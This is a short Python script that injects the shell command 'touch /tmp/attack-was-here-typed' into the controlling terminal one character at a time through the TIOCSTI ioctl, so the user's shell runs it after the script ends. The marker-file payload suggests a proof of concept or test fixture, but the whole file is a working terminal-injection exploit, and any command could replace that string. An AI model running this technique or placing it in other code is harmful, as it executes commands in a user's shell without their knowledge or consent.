import os

try:
    import fcntl
    import termios

    terminals = [os.open("/dev/tty", os.O_RDWR), 0, 1, 2]
except (ImportError, OSError):
    terminals = [0, 1, 2]
for terminal in terminals:
    for letter in b"touch /tmp/attack-was-here-typed\n":
        try:
            fcntl.ioctl(terminal, termios.TIOCSTI, bytes([letter]))
        except (OSError, NameError, AttributeError):
            break
